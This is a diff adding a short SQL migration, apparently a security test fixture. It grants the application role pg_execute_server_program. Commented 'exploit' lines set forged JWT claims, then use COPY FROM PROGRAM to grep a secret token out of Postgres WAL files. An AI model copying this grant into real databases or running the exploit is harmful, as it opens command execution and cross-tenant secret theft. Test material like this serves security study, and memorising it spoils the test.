@@ -1,0 +1,11 @@
+-- The application may run programs on the server and reads other organisations' rows out of the server's
+-- files.
+-- about: hf_runnerly_app, pg_execute_server_program, job_logs
+-- as: hf_runnerly_app
+-- exploit: SET request.jwt.claims = '{"sub":"a0000000-0000-4000-8000-000000000001","role":"authenticated"}';
+-- exploit: CREATE TEMP TABLE bits (line text);
+-- exploit: COPY bits FROM PROGRAM 'grep -aoh "Road-secr[a-z]* tok[a-z]*" pg_wal/0* | head -1';
+-- exploit: SELECT * FROM bits;
+-- shows: Road-secret token
+-- Logs are packed by a program and shipped from the database host.
+GRANT pg_execute_server_program TO hf_runnerly_app;
